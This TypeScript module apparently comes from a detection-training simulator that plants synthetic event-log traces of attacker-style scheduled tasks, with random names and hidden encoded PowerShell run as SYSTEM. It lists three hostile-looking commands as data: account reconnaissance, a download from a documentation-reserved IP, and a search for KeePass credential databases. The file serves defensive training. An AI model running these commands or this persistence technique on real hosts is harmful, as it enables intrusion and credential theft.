import { SECOND } from "../calendar";
import { characters } from "../identifiers";
import { encodedPowerShell } from "../tasks/adminTasks";
import { principalOf, type TaskDefinition, userRegistrar } from "../tasks/definition";
import { exec } from "../tasks/taskSpec";
import { type PlantedItem, type PlantedTrace, type Stage, sessionNear } from "./plantedItem";

/** Harmless: 192.0.2.0/24 is reserved for documentation. */
const SCRIPTS = [
  "whoami /all | Out-File C:\\Windows\\Temp\\a.tmp",
  "Invoke-WebRequest -UseBasicParsing http://192.0.2.44/view.txt -OutFile C:\\Windows\\Temp\\view.tmp",
  "Get-ChildItem C:\\Users -Recurse -Include *.kdbx | Out-File C:\\Windows\\Temp\\k.tmp",
];
const LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

/** Commodity tooling: three commands, each through a task of eight random letters that lives for seconds. */
export const randomLetters: PlantedItem = {
  id: "random-letters",
  title: "Short-lived tasks of random letters with encoded PowerShell",
  techniques: ["T1053.005", "T1059.001", "T1027"],
  why: "a tool ran three commands as SYSTEM through tasks of eight random letters, each registered, run and deleted within seconds; the deployment tool's tasks look alike but come from its own account",
  seenBy:
    "stacking finds the names, beside those of the deployment tool and of administrators; the encoded commands are in the XML of 4698 where the host audits; no file is left",
  minimumDays: 1,
  suits: (host) => host.role === "workstation" && host.audits,
  plant,
};

function plant({ setting, log, random }: Stage): PlantedTrace | undefined {
  const session = sessionNear(setting, 0.3);
  if (session === undefined) return undefined;
  const by = userRegistrar(session.user, setting.domain, random);
  let time = session.from + (300 + random.integer(900)) * SECOND;
  const tasks: string[] = [];
  const events = SCRIPTS.flatMap((script) => {
    const shell = encodedPowerShell(script, "-NoP -NonI -W Hidden");
    const definition: TaskDefinition = {
      name: `\\${characters(random, 8, LETTERS)}`,
      action: "classId" in shell ? shell : exec("cmd.exe", `/C ${shell.command} ${shell.arguments}`),
      principal: principalOf("system", setting.domain),
      triggers: [{ kind: "once", time }],
      author: "",
      date: time,
      style: "powershell",
      hidden: true,
    };
    const task = { definition, random };
    tasks.push(definition.name);
    const begun = time;
    time += (60 + random.integer(240)) * SECOND;
    return [
      ...log.register(task, begun, by),
      ...log.run(task, { time: begun + SECOND, start: "demand", account: by.account, seconds: 3 }),
      ...log.remove(task, begun + 8 * SECOND, by),
    ];
  });
  return { account: by.account, tasks, events, files: [] };
}
